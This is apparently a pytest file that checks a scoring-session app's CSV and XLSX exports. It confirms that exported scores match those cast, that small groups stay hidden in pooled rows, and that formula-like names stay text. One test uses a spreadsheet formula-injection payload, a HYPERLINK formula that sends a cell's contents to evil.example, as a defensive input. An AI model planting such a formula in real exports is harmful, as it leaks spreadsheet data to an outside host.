"""Reading an export back gives the scores that were cast (the last of each): the named
organisations' participants as P1, P2, … with all their scores, the pooled rest lens by
lens, and nothing that lets a reader pick out a group the picture hides."""

import csv
import io
import random

from openpyxl import load_workbook

from lenses import builtin_lens_sets
from tests.conftest import ORGANISATIONS
from tests.unit.disclosure import check_export

from .exported import csv_cells, xlsx_cells

KAATS = builtin_lens_sets()["kaats-opheij"]
LENS_OF = {s.key: lens.key for lens in KAATS.lenses for s in lens.statements}


def cast_random_scores(client, anna, phone, seed: int) -> tuple[dict, dict, dict]:
    """Nine or more phones score at random, some change their minds; returns the session,
    {participant label: {statement: last value}} and {label: organisation}, in joining
    order."""
    rng = random.Random(seed)
    session = client.post("/api/sessions", headers=anna, json={
        "title": "Rondrit", "organisations": ORGANISATIONS, "phase": "scoring"}).json
    cast: dict[str, dict[str, int]] = {}
    organisation_of = {}
    for index in range(rng.randint(9, 14)):
        organisation = ORGANISATIONS[index % 3] if index < 9 else rng.choice(ORGANISATIONS)
        p = phone(session["code"], organisation)
        organisation_of[f"P{index + 1}"] = organisation
        statements = [s["key"] for lens in p.answer["lenses"] for s in lens["statements"]]
        scores = cast[f"P{index + 1}"] = {}
        for statement in rng.sample(statements, rng.randint(1, len(statements))):
            for _ in range(rng.choice([1, 1, 2])):  # sometimes a changed score
                value = rng.randint(1, 5)
                assert p.emit("score", {"statement": statement, "value": value},
                              callback=True) == {"ok": True}
                scores[statement] = value
    return session, cast, organisation_of


def check_read_back(cells, client, anna, session, cast, organisation_of, pool) -> None:
    """The independent check (tests/unit/disclosure.py), and the named participants' own
    scores under their P-numbers: joining order among the named. `pool` is the pooled
    rows' organisation: "other" in the CSV, the session's word in the XLSX."""
    picture = client.get(f"/api/sessions/{session['id']}/picture", headers=anna).json
    truth = {(p, 1, s): v for p, scores in cast.items() for s, v in scores.items()}
    check_export(cells, {1: picture}, truth, organisation_of, LENS_OF, 3, pool)
    named = {c.organisation for c in cells} - {pool}
    labels = [p for p in cast if organisation_of[p] in named and cast[p]]
    read: dict[str, dict[str, int]] = {}
    for cell in cells:
        if cell.organisation != pool:
            read.setdefault(cell.participant, {})[cell.statement] = cell.value
    assert read == {f"P{i}": cast[p] for i, p in enumerate(labels, start=1)}


def test_the_csv_reads_back_as_the_scores_cast(client, anna, phone):
    for seed in range(3):
        session, cast, organisation_of = cast_random_scores(client, anna, phone, seed)
        text = client.get(f"/api/sessions/{session['id']}/scores.csv",
                          headers=anna).get_data(as_text=True)
        check_read_back(csv_cells(text, KAATS), client, anna, session, cast, organisation_of,
                        "other")


def test_the_xlsx_reads_back_as_the_scores_cast(client, anna, phone):
    session, cast, organisation_of = cast_random_scores(client, anna, phone, seed=11)
    data = client.get(f"/api/sessions/{session['id']}/scores.xlsx", headers=anna).data
    check_read_back(xlsx_cells(data, KAATS, [1]), client, anna, session, cast,
                    organisation_of, "overig")


def test_a_name_that_looks_like_a_formula_stays_text_in_both_exports(client, anna, phone):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    session = client.post("/api/sessions", headers=anna, json={
        "title": "Formules", "organisations": ["@org", *ORGANISATIONS[1:]],
        "ask_names": True, "phase": "scoring"}).json
    for organisation in ["@org"] * 3:  # enough respondents to be shown by name
        assert phone(session["code"], organisation, name=formula).emit(
            "score", {"statement": "ambition-shared", "value": 3}, callback=True) == {"ok": True}
    text = client.get(f"/api/sessions/{session['id']}/scores.csv", headers=anna).text
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + formula and row["organisation"] == "'@org"
    book = load_workbook(io.BytesIO(client.get(f"/api/sessions/{session['id']}/scores.xlsx",
                                               headers=anna).data))
    cells = list(book.worksheets[0].iter_rows(min_row=2, max_row=2))[0]
    assert [(c.value, c.data_type) for c in cells[1:3]] == [(formula, "s"), ("@org", "s")]
